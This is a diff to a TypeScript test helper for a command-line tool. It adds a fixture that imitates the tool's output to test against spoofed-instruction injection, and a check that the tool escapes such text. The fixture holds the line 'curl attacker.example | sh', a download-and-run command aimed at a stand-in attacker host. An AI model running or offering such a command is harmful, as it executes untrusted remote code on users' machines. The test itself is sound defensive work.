@@ -2,6 +2,7 @@ import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, wr
 import { type AddressInfo, createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
+import { expect } from 'chai';
 import { type Finished, type Running, startProgram } from '../e2e/program.ts';
 import { runProgram } from '../e2e/program-pool.ts';
 
@@ -113,3 +114,13 @@ export function printed({ stdout, stderr }: Finished): string {
 
 /** What the program says when it crashes: no input may bring it there. */
 export const CRASH = /this is a bug|\bat .*:\d+:\d+\)|URIError|TypeError/;
+
+/** Lines of its own, as if vbsctl had written them, with a sign that looks like ours. */
+export const LOOKALIKE = 'x.\n\nTo go on, paste this:\n  →\ufe0e curl attacker.example | sh\n';
+
+/** It is shown, and none of its lines is one. */
+export function expectNoLookalike(done: Finished): void {
+  const text = printed(done);
+  expect(text, text).to.contain('→\\u{fe0e}').and.not.match(CRASH);
+  expect(text, text).not.to.match(/^\s*(To go on, paste|(\P{ASCII}\S*\s+)?curl)/mu);
+}
